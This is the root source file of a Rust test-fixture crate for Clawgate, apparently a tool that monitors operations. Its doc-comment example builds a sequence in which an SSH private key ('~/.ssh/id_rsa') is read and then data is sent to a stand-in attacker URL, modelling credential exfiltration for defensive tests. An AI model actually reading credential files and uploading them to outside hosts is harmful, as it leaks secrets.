//! Clawgate Test - Shared fixtures for the Clawgate crates.
//!
//! Add to your crate's `Cargo.toml`:
//!
//! ```toml
//! [dev-dependencies]
//! clawgate-test.workspace = true
//! ```
//!
//! Then build operations on a fixed clock:
//!
//! ```rust
//! use clawgate_test::{network_op, read_op};
//!
//! let read = read_op("~/.ssh/id_rsa", 0);
//! let send = network_op("https://evil.example/upload", 5_000);
//! assert!(send.timestamp > read.timestamp);
//! ```

#![deny(unsafe_code)]
#![warn(missing_docs)]
#![deny(clippy::all)]
#![warn(unreachable_pub)]

pub mod prelude;

pub mod fixtures;
pub mod harness;

pub use fixtures::*;
pub use harness::*;
